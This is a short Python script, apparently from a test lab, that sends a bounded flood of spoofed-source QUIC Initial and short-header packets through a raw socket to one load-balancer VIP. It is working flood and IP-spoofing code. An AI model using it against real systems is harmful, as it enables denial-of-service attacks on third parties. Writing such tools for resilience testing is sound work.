"""A spoofed QUIC flood from the client namespace: bounded, to one VIP only.

    python quicflood.py VIP PORT COUNT CONFIG_ID SERVER_ID_LEN NONCE_LEN

Sends COUNT client Initials (v1, 1200 octets, random CIDs) and COUNT
short-header packets whose CIDs carry the VIP's config ID and random server
IDs, each from a random source address of 198.18.10.0/24 (the client net, so
the router forwards them) and a random port, through a raw socket."""
from __future__ import annotations

import os
import random
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp


def main() -> int:
    vip, port, count, config_id, sid_len, nonce_len = sys.argv[1], *map(int, sys.argv[2:7])
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random(22)
    for i in range(2 * count):
        src = f"198.18.10.{rng.randrange(100, 250)}"
        if i % 2:
            dcid = os.urandom(8)
            payload = bytes([0xC3]) + struct.pack("!I", 1) + bytes([8]) + dcid + bytes([8]) + os.urandom(8)
            payload += bytes(1200 - len(payload))
        else:
            cid = bytes([config_id << 5 | (sid_len + nonce_len)]) + os.urandom(sid_len + nonce_len)
            payload = bytes([0x41]) + cid + os.urandom(40)
        sock.sendto(datagram(src, vip, rng.randrange(1024, 65535), port, payload), (vip, 0))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
